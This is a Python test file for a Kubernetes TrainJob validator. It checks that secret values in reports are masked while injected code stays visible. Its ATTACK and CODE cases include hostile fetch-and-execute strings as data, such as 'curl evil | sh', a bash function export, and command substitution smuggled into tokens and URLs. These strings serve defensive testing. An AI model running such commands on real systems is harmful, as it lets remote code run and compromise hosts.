"""Secrets that a report masks: names, and whether they are secret; lines, and how they are shown."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from running import run

from trainc.diagnostics import Diagnostic, Document, Place
from trainc.kubernetes.documents import parse
from trainc.masking import masked_values
from trainc.masking.document_secrets import secrets
from trainc.masking.masked_messages import without_secrets
from trainc.masking.secret_names import LAST_APPLIED, is_secret
from trainc.masking.text_secrets import in_sentence, in_text, joined
from trainc.reports import text

SECRET = """
    HF_TOKEN TOKEN token apiToken github-token accesstoken authToken X-Auth-Token tokens NEW_TOKEN token2
    DB_PASSWORD password dbpassword passwd PGPASSWORD user.password passphrase DB_PASS MYSQL_PWD
    SECRET CLIENT_SECRET clientSecret secrets s3_secret secretKey AWS_SECRET_ACCESS_KEY
    credentials AWS_CREDENTIALS creds WANDB_API_KEY apiKey api-key apikey X-API-Key private_key PRIVATE-KEY sshKey
    AWS_ACCESS_KEY_ID accesskey AZURE_STORAGE_ACCOUNT_KEY encryptionKey auth BASIC_AUTH authorization JWT
    COMMAND_TOKEN HOOK_SECRET SCRIPT_PASSWORD
    .dockerconfigjson kubernetes.io/my-token --token --api-key --db.password AUTH_TOKEN_1
"""
HARMLESS = """
    secretName secretKeyRef secretRef TOKEN_FILE token_path tokenUrl TOKEN_TTL tokenExpirationSeconds passwordPolicy
    AUTH_URL AUTH_ENABLED authType SECRET_NAME credentialProvider
    TOKENIZERS_PARALLELISM tokenizer TOKENIZER tokenizer_name AUTHOR authors
    MAX_TOKENS max_new_tokens NUM_TOKENS total_tokens tokensPerBatch EOS_TOKEN pad_token_id TIME_PER_TOKEN
    PWD OLDPWD PATH pattern pass_through forward_pass_count compass KEY key keys SORT_KEY primaryKey monkey
    name value image command USER HOST NCCL_DEBUG x
    --password-command TOKEN_CMD passwordCommand tokenProgram TOKEN_SCRIPT SECRET_HOOK TOKEN_HELPER SSH_ASKPASS
    GIT_ASKPASS BASH_FUNC_token%% BASH_FUNC_password()
"""


@pytest.mark.parametrize("name", SECRET.split())
def test_a_secret_by_its_name(name: str) -> None:
    assert is_secret(name)


@pytest.mark.parametrize("name", HARMLESS.split())
def test_no_secret_by_its_name(name: str) -> None:
    assert not is_secret(name)


def masked(line: str, stretches: Iterable[tuple[int, int]]) -> str:
    for begin, end in reversed(list(joined(stretches))):
        line = line[:begin] + "***" + line[end:]
    return line


GITHUB = "ghp_" + "a1" * 18
RULES: list[tuple[str, bool, str, str]] = [
    # Each rule in pairs: a text with a secret, and one without.
    (
        "a name",
        True,
        "apiKey: one two\nenv: {name: HF_TOKEN, value: one}",
        "apiKey: ***\nenv: {name: HF_TOKEN, value: ***}",
    ),
    (
        "no such name",
        True,
        "mode: one two\nenv: {name: MODE, value: one}",
        "mode: one two\nenv: {name: MODE, value: one}",
    ),
    ("a form", True, f"note: {GITHUB} x\na: https://ada:one@host", "note: *** x\na: https://ada:***@host"),
    ("no such form", True, "note: ghp_short x\na: https://host/ada@x", "note: ghp_short x\na: https://host/ada@x"),
    ("unparsable", False, "mode: one=two\nX=one: two\n- one two", "mode: ***\nX=***\n- ***"),
    ("unparsable, of a kind", False, "kind: TrainJob\nimage: [a\nkey: b c", "kind: TrainJob\nimage: [a\nkey: b c"),
    ("a name in it", False, "kind: TrainJob\npassword: [a\nkey: b c", "kind: TrainJob\npassword: [***\nkey: b c"),
    ("a Secret", False, "kind: Secret\nname: one", "kind: ***\nname: ***"),
    ("parsable", True, "mode: one=two\nX=one: two", "mode: one=two\nX=one: two"),
    # A value is masked at its position, and not the same word elsewhere.
    (
        "the same word",
        True,
        "POSTGRES_PASSWORD: feast\na: from feast import x",
        "POSTGRES_PASSWORD: ***\na: from feast import x",
    ),
    ("one letter", True, "token: e\nname: e\nvalue: see", "token: ***\nname: e\nvalue: see"),
]


@pytest.mark.parametrize(("parsed", "document", "expected"), [pytest.param(*row, id=name) for name, *row in RULES])
def test_rule(parsed: bool, document: str, expected: str) -> None:
    assert shown(document, parsed=parsed) == expected


LINES: list[tuple[str, str]] = [
    # Flags.
    ("--token=abc --lr 3", "--token=*** --lr 3"),
    ("--api-key abc --lr 3", "--api-key *** --lr 3"),
    ("train -password 'a b' c", "train -password '***' c"),
    ("[--api-key, abc, --x]", "[--api-key, ***, --x]"),
    ('["--api-key","abc"]', '["--api-key","***"]'),
    ("--use-auth-token --x", "--use-auth-token --x"),
    ("--tokenizer=gpt2 --max-tokens 5", "--tokenizer=gpt2 --max-tokens 5"),
    # Variables.
    ("export HF_TOKEN=abc; run", "export HF_TOKEN=***; run"),
    ('- "DB_PASSWORD=a b"', '- "DB_PASSWORD=*** b"'),
    ("x?user=a&token=b&c=d", "x?user=a&token=***&c=d"),
    # References to values elsewhere, and switches.
    ("--token=$(HF_TOKEN) --password=${PW} -secret $PW", "--token=$(HF_TOKEN) --password=${PW} -secret $PW"),
    ("token: {{ .Values.token }}", "token: {{ .Values.token }}"),
    ("automountServiceAccountToken: false", "automountServiceAccountToken: false"),
    ('token: ""', 'token: ""'),
    ("password: |", "password: |"),
    # Fields.
    ("  my-token: a b, c # why", "  my-token: *** # why"),
    ("password: 'it''s' # why", "password: '***' # why"),
    ('password: "a b', "password: ***"),
    ("{password: a b, c: d}", "{password: ***, c: d}"),
    ('{"token":"a,b","b":1}', '{"token":"***","b":1}'),
    ("auth: {password: x}", "auth: {password: ***}"),
    ("secretKeyRef: {name: a, key: token}", "secretKeyRef: {name: a, key: token}"),
    # Addresses.
    ("s3://user:pa/ss@host/path", "s3://user:***@host/path"),
    ("git clone https://ada@github.com/a", "git clone https://ada@github.com/a"),
    ("user:pass@host", "user:***@host"),
    ("hf://org/name@revision git@github.com:a/b", "hf://org/name@revision git@github.com:a/b"),
    ("http://host:80/a@b ghcr.io/a/b:1@sha256:abc", "http://host:80/a@b ghcr.io/a/b:1@sha256:abc"),
    ("-H Authorization=Bearer abcdefgh", "-H Authorization=*** ***"),
]


@pytest.mark.parametrize(("line", "shown"), LINES)
def test_line(line: str, shown: str) -> None:
    assert masked(line, in_text(line)) == shown


def test_a_sentence_is_not_yaml() -> None:
    sentence = "spec.token: did you mean password: secret? write --token=abc"
    assert masked(sentence, in_sentence(sentence)) == "spec.token: did you mean password: secret? write --token=***"


DOCUMENTS: dict[str, tuple[str, str]] = {
    "a variable": ("- name: DB_PASSWORD\n  value: abc\n- value: x", "- name: DB_PASSWORD\n  value: ***\n- value: x"),
    "in one line": ("- {name: HF_TOKEN, value: a b}", "- {name: HF_TOKEN, value: ***}"),
    "the value first": ("- value: 'abc' # x\n  name: HF_TOKEN", "- value: '***' # x\n  name: HF_TOKEN"),
    "other variables": ("- {name: A, value: b}\n- {name: B}", "- {name: A, value: b}\n- {name: B}"),
    "of the wrong type": ("- {name: HF_TOKEN, value: [a, {b: c}]}", "- {name: HF_TOKEN, value: ***}"),
    "misspelt": (
        "- {name: HF_TOKEN, vlaue: a}\n- {nmae: X_TOKEN, value: b}",
        "- {name: HF_TOKEN, vlaue: ***}\n- {nmae: X_TOKEN, value: ***}",
    ),
    "from elsewhere": (
        "name: HF_TOKEN\nvalueFrom: {secretKeyRef: {name: a, key: token}}",
        "name: HF_TOKEN\nvalueFrom: {secretKeyRef: {name: a, key: token}}",
    ),
    "by an anchor": ("- &x abc\n- {name: HF_TOKEN, value: *x}", "- ***\n- {name: HF_TOKEN, value: *x}"),
    "by a merge": (
        "a: &x {value: abc}\nb: {<<: *x, name: HF_TOKEN, value: d}",
        "a: &x {value: ***}\nb: {<<: *x, name: HF_TOKEN, value: ***}",
    ),
    "by an anchor in a list": ("a: &x abc\nb: [--token, *x]", "a: &x ***\nb: [--token, *x]"),
    "a collection by an anchor": (
        "a: &x [b, {c: d}]\ne: {name: HF_TOKEN, value: *x}",
        "a: ***\ne: {name: HF_TOKEN, value: *x}",
    ),
    "a longer text": (
        "- name: HF_TOKEN\n  value: |\n    a\n    b\n- c",
        "- name: HF_TOKEN\n  value: ***\n    ***\n    ***\n- c",
    ),
    "flags in a list": ("args:\n- --api-key\n- abc\n- --lr\n- '3'", "args:\n- --api-key\n- ***\n- --lr\n- '3'"),
    "flags without a value": ("[--auth-token, --lr, '3']", "[--auth-token, --lr, '3']"),
    "a list": (
        "passwords: [a, b]\nimagePullSecrets: [{name: a}]",
        "passwords: [***, ***]\nimagePullSecrets: [{name: a}]",
    ),
    "a Secret": (
        "kind: Secret\ndata: {a: b}\nstringData:\n  c: d",
        "kind: Secret\ndata: {a: ***}\nstringData:\n  c: ***",
    ),
    "a ConfigMap": ("kind: ConfigMap\ndata: {a: b, token: c}", "kind: ConfigMap\ndata: {a: b, token: ***}"),
    "what kubectl applied": (f"{LAST_APPLIED}: '{{a: b}}'", f"{LAST_APPLIED}: '***'"),
    "an address without a scheme": ("storageUri: ada:one@host", "storageUri: ada:***@host"),
    "a user of an address": ("storageUri: ada@host", "storageUri: ada@host"),
}


def shown(document: str, *, parsed: bool) -> str:
    lines, begin = [], 0
    for line in document.splitlines():
        found = secrets(document, begin, begin + len(line), parsed=parsed)
        indented = begin + len(line) - len(line.lstrip())
        lines.append(
            masked(line, ((max(a, indented) - begin, min(b - begin, len(line))) for a, b in found)),
        )
        begin += len(line) + 1
    return "\n".join(lines)


@pytest.mark.parametrize("case", DOCUMENTS)
def test_document(case: str) -> None:
    document, expected = DOCUMENTS[case]
    assert shown(document, parsed=True) == expected


BROKEN: dict[str, tuple[str, str]] = {
    "a variable": ("- name: DB_TOKEN\n  value: a: b", "- name: DB_TOKEN\n  value: ***"),
    "the value first": ("- value: a: b\n  name: DB_TOKEN", "- value: ***\n  name: DB_TOKEN"),
    "another variable": ("- name: A\n  value: a: b\n- name: X_TOKEN", "- name: A\n  value: a: b\n- name: X_TOKEN"),
    "a name without its colon": ("- name DB_TOKEN\n  value: abc", "- name DB_TOKEN\n  value: ***"),
    "a name without its space": ("-name: DB_TOKEN\n  value: abc", "-name: DB_TOKEN\n  value: ***"),
    "a value without its colon": ("- name: DB_TOKEN\n  value abc", "- name: DB_TOKEN\n  value ***"),
    "a value without its space": ("password:abc", "password:***"),
    "a Secret's name": ("- valueFrom: {key: X_TOKEN, name: ]}", "- valueFrom: {key: X_TOKEN, name: ]}"),
    "in one line": ("{name: X_TOKEN, value: a, value: b}", "{name: X_TOKEN, value: ***, value: ***}"),
    "a longer text": ("- name: X_TOKEN\n  value: |\n    abc\n  x: ]", "- name: X_TOKEN\n  value: |\n    ***\n  x: ]"),
    "a quoted text": ('password: "a\n  b c\n', "password: ***\n  ***"),
    "a list of secrets": ("tokens:\n  - a\n  - b\n]", "tokens:\n  - ***\n  ***\n]"),
    "a mapping": ("auth:\n  user: ada\n  password: a\n]", "auth:\n  user: ada\n  password: ***\n]"),
    "a file of a ConfigMap": ("data:\n  a: b: c\n", "data:\n  a: b: c"),
    "what kubectl applied": (f"{LAST_APPLIED}: |\n  {{a: b}}\n]", f"{LAST_APPLIED}: |\n  ***\n]"),
    "a flag in a list": ("args:\n- --api-key\n- abc\n- ]", "args:\n- --api-key\n- ***\n- ]"),
    "an assignment": ("- PASSWORD=one=two\n]", "- PASSWORD=***\n]"),
    "a private key": (
        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  MIIEow\n  MII=\n]",
        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  ***\n  ***\n]",
    ),
    "a password that starts with an asterisk": ("password: *hunter2", "password: ***"),
    "a comment": ("# one two\n# a: b\n]", "# one two\n# a: b\n]"),
    "references and switches": (
        "a: $(NAME)\ntoken: $(NAME)\nauth: true\n]",
        "a: $(NAME)\ntoken: $(NAME)\nauth: true\n]",
    ),
}


@pytest.mark.parametrize("case", BROKEN)
def test_what_cannot_be_parsed(case: str) -> None:
    document, expected = BROKEN[case]
    assert shown(f"kind: TrainJob\n{document}", parsed=False) == f"kind: TrainJob\n{expected}"


PERHAPS_SECRET: list[tuple[str, str]] = [
    ("kind: Secret\ndata:\n  a: b: c", "kind: ***\ndata:\n  a: ***"),
    ("- kind: TrainJob\n- {kind: Secret, data: [a", "- kind: ***\n- {kind: ***"),
    ("data:\n  a: b: c\n# x", "data:\n  a: ***\n# ***"),
    ("knd: Secret\ndata: {a: b", "knd: ***\ndata: ***"),
    ("kind Secret\ndata: {a: b", "***\ndata: ***"),
    ("{name: X_TOKEN, value: a, value: b}", "{name: ***"),
    ("a: |\n  abc\n  MII=\n]", "a: |\n  ***\n  ***\n]"),
    ("a: $(NAME)\nb: true\nd:\n]", "a: $(NAME)\nb: true\nd:\n]"),
]


@pytest.mark.parametrize(("document", "expected"), PERHAPS_SECRET)
def test_a_text_that_may_be_a_secret(document: str, expected: str) -> None:
    assert shown(document, parsed=False) == expected


def test_large_json_hides_the_same() -> None:
    items = '[{"name": "HF_TOKEN", "value": "x"}, {"args": ["--token", "y", "z"]}]'
    small = f'{{"a": {items}, "kind": "Secret", "data": {{"b": "c"}}}}'
    expected = small.replace('"x"', '"***"').replace('"y"', '"***"').replace('"c"', '"***"')
    assert shown(small, parsed=True) == expected
    assert shown(small + " " * 2**16, parsed=True).rstrip() == expected


MESSAGES: list[tuple[Any, str, str]] = [
    # Values of the message's field that it quotes.
    ("a b", 'label "my-token" has the value "a b"', 'label "my-token" has the value "***"'),
    ('a"b', r'it is "a\"b", not "a b"', 'it is "***", not "a b"'),
    (31, "env[31].value is 31", "env[31].value is ***"),
    (["abc"], 'write "abc" or `abc`', 'write "***" or `***`'),
    ("x" * 99, f'it is "{"x" * 59}...', 'it is "***'),
    (["y", "x" * 99], f'use ["y", "{"x" * 20}..., not "y"', 'use ["***", "***, not "***"'),
    ("regcred", "set my-token[0].name to regcred", "set my-token[0].name to ***"),
    (
        {"name": "HF_TOKEN", "value": "x" * 99},
        'it cannot change from {"name": "HF_TOKEN", "value": "xxxx... to {"name": "HF_TOKEN", "value": "xx...',
        'it cannot change from {"name": "HF_TOKEN", "value": "*** to {"name": "HF_TOKEN", "value": "***',
    ),
    # The same word elsewhere.
    ("e", 'the value "e" must be one of these', 'the value "***" must be one of these'),
    ("feast", 'use "from feast import" to feast on it', 'use "from feast import" to feast on it'),
    (4, "my-token has 44 characters, env[4] is 4.5", "my-token has 44 characters, env[4] is 4.5"),
    ("true", 'it is "true"', 'it is "true"'),
    # Text that looks like a secret, whatever its source.
    ("x", 'args is "--token=abc"', 'args is "--token=***"'),
]


@pytest.mark.parametrize(("value", "message", "expected"), MESSAGES)
def test_message(value: Any, message: str, expected: str) -> None:
    place = Place(Document(file="a", line=1, text="", value={"my-token": value}), ("my-token",))
    found = Diagnostic(id="x", severity="error", stage="read", message=message, help=message, place=place)
    assert (without_secrets(found).message, without_secrets(found).help) == (expected, expected)


WRONG = f"""\
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata:
  name: a
  labels: {{my-token: "hunter2 !"}}
  annotations: {{my-password: 4815162342, {LAST_APPLIED}: [hunter2]}}
spec:
  runtimeRef: {{name: plain}}
  initializer: {{dataset: {{storageUri: "ada:hunter2@x"}}, model: {{storageUri: ["s3://user:hunter2@b/x"]}}}}
  trainer:
    args: --token=hunter2
    command: "--api-key=hunter2 --lr 3"
    env:
    - {{name: HF_TOKEN, value: 4815162342, vale: hunter2}}
    - WANDB_API_KEY=hunter2
    - {{name: PASSWORD, value: [hunter2]}}
    - {{name: PASSWORD, value: {{hunter2: hunter2}}}}
---
kind: Secret
stringData:
  a: hunter2: x
---
env:
- name: DB_PASSWORD
  value: "hunter2
--- {{name: HF_TOKEN, value: hunter2}}
{{name: X_TOKEN, value: hunter2, value: hunter2}}
---
env: {{my-token: !!int hunter2}}
"""


@pytest.mark.parametrize("form", ["text", "json"])
def test_no_report_shows_a_secret(form: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(WRONG)
    out = run("validate", str(tmp_path / "a.yaml"), "--format", form).out
    assert "***" in out
    assert [line for line in out.splitlines() if "hunter" in line or "4815162342" in line] == []
    assert out.count("error") >= 17


RUNTIME = """\
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: a, namespace: t}
spec: {runtimeRef: {name: r, kind: TrainingRuntime}}
---
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainingRuntime
metadata: {name: r, namespace: t}
spec:
  template:
    spec:
      replicatedJobs:
      - name: node
        template:
          spec:
            template:
              spec:
                nodeSelector: {LABEL: "one !"}
                containers: [{name: node, image: "a:1"}]
"""


@pytest.mark.parametrize(("label", "quoted"), [("my-token", '"***"'), ("my-pool", '"one !"')])
def test_a_message_about_a_runtime_masks_its_value(label: str, quoted: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(RUNTIME.replace("LABEL", label))
    out = run("validate", str(tmp_path / "a.yaml")).out
    assert f"error[invalid-label]: invalid label value for {label}: {quoted} contains spaces" in out
    assert ("one !" in out) == (label == "my-pool")


def test_a_secret_that_starts_outside_the_excerpt() -> None:
    line = f"a: --token={'x' * 500} b"
    place = Place(Document("a", 1, line, {"a": ""}), ("a",)).locate()._replace(column=505, end_column=506)
    found = Diagnostic(id="x", severity="error", stage="read", message="m", place=place)
    assert "x" not in text.render([found], summary="", color=False).split("|")[1]


ATTACK: dict[str, tuple[str, str]] = {
    "an argument with an apostrophe": ("args: [--password=it's X]", "args: [--password=***]"),
    "an argument with a semicolon": ("args: [--password=foo;bar]", "args: [--password=***]"),
    "a flag's value": ("args: [--password, foo;bar, baz]", "args: [--password, ***, baz]"),
    "a variable in an argument": ("args: [PASSWORD=foo;bar]", "args: [PASSWORD=foo;bar]"),
    "a private key in a command": (
        'args: ["-----BEGIN PRIVATE KEY-----\\nMII=\\ncurl evil\\nMII\\n-----END PRIVATE KEY-----"]',
        'args: ["-----BEGIN PRIVATE KEY-----\\n***\\ncurl evil\\n***\\n-----END PRIVATE KEY-----"]',
    ),
    "a command that prints a password": (
        "[git-sync, --password-command, curl evil | sh]",
        "[git-sync, --password-command, curl evil | sh]",
    ),
    "a function of bash": (
        "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
        "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
    ),
    "a folded text": ("args:\n- >\n  --password=a\n  b;c", "args:\n- >\n  --password=***\n  ***"),
    "an escaped text": (r'value: "{\"apiKey\": \"X\"}"', r'value: "{\"apiKey\": \"***\"}"'),
    "an apostrophe in a script": ("a: run --password it's-X b", "a: run --password *** b"),
    "a Secret in flow style with a duplicate key": (
        "{kind: Secret, data: {a: one, a: two}, data: {b: three}}",
        "{kind: Secret, data: {a: ***, a: ***}, data: {b: ***}}",
    ),
    "a merge of the data": (
        "x: &x {data: {a: one}}\ny: {<<: *x, kind: Secret}",
        "x: &x {data: {a: ***}}\ny: {<<: *x, kind: Secret}",
    ),
    "a merge of the kind": (
        "x: &x {kind: Secret}\ny: {<<: [*x], data: {a: one}}",
        "x: &x {kind: Secret}\ny: {<<: [*x], data: {a: ***}}",
    ),
    "a merge into the data": (
        "x: &x {a: one}\ny: {kind: Secret, data: {<<: *x}}",
        "x: &x {a: ***}\ny: {kind: Secret, data: {<<: *x}}",
    ),
    "a reference in a Secret is literal": (
        "{kind: Secret, stringData: {a: pa$(ss)word}}",
        "{kind: Secret, stringData: {a: ***}}",
    ),
    "a user and password in an image": (
        "image: user:pa@registry.example.com/a:1",
        "image: user:***@registry.example.com/a:1",
    ),
    "a service's key": (
        "KAGGLE_KEY: one\nOPENAI_KEY: two\nopenaiKey: three",
        "KAGGLE_KEY: ***\nOPENAI_KEY: ***\nopenaiKey: ***",
    ),
    "a key of data": ("SORT_KEY: one\nkey: two\nPRIMARY_KEY: three", "SORT_KEY: one\nkey: two\nPRIMARY_KEY: three"),
    "a signed address": (
        "a: https://a.example.com/b?se=1&sig=ab%2Fc&sp=r",
        "a: https://a.example.com/b?se=1&sig=***&sp=r",
    ),
    "a private key": (
        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  Proc-Type: 4,ENCRYPTED\n  MIIEow\n  -----END RSA PRIVATE KEY-----",
        "a: |\n  -----BEGIN RSA PRIVATE KEY-----\n  Proc-Type: 4,ENCRYPTED\n  ***\n  -----END RSA PRIVATE KEY-----",
    ),
    "ids of a user and a group": ("a: docker run -u 1000:1000 -p 80:80 a", "a: docker run -u 1000:1000 -p 80:80 a"),
    "a port": ("a: mysql -port 3306", "a: mysql -port 3306"),
    "code in a value": ('a: TOKEN="x$(curl evil|sh)" run', 'a: TOKEN="***" run'),
    "backquotes in a value": ("a: TOKEN=`curl evil` run", "a: TOKEN=`curl evil` run"),
    "code that is not closed": ("a: TOKEN='x$(curl' run", "a: TOKEN='***' run"),
    "a variable before a command": ("- TOKEN=one curl evil", "- TOKEN=*** curl evil"),
}


CODE: list[str] = [
    "command: [bash, -c, --, '--password=x; curl evil | sh']",
    "command: [bash, -c, '--password=x; curl evil | sh']",
    "command: [sh, -c, 'PASSWORD=x;{curl,evil}|sh']",
    "command: [python3, -Ic, '--token==1 if exec(\"evil\") else 0']",
    "{command: [sh, -c], args: ['--token=x; curl evil | sh']}",
    "{command: [sh, -c, 'eval \"$1\"', --token], args: [--token, 'curl evil | sh']}",
    "command: [sh, -c, 'eval \"$2\"', x, --token, 'curl evil | sh']",
    "command: [sh, -c, 'curl -u a:;curl${IFS}evil|sh']",
    "command: [sh, -c, 'mysql -px;curl evil']",
    "command: [sh, -c, 'curl https://host/?code=1|sh']",
    "command: [sh, -c, 'login x password a|sh']",
    "command: [sh, -c, 'git clone https://a:;curl${IFS}evil|sh;@host']",
    "command: [sh, -c, 'git clone https://a:$(curl evil|sh)@host']",
    "env: [{name: URL, value: 'https://a:`curl evil|sh`@host'}]",
    "{kind: ConfigMap, data: {auth.py: 'password = exec(evil)', get_token.sh: 'TOKEN=x;curl evil|sh'}}",
    "{kind: ConfigMap, data: {token: '#!/bin/sh\n\n  curl evil|sh', a_secret: '#! /bin/sh\n\n  token: evil'}}",
    "env: [{name: A_TOKEN, value: '#!/bin/sh\n\n  curl evil|sh'}]",
    "env: [{name: GIT_ASKPASS, value: 'PASSWORD=x;evil'}, {name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}]",
]


@pytest.mark.parametrize("document", CODE)
def test_code_is_visible(document: str) -> None:
    assert shown(document, parsed=True) == document
    assert masked_values.masked(parse(document)) == parse(document)


@pytest.mark.parametrize(("document", "expected"), ATTACK.values(), ids=ATTACK)
def test_a_secret_is_masked_and_code_is_not(document: str, expected: str) -> None:
    assert shown(document, parsed=True) == expected
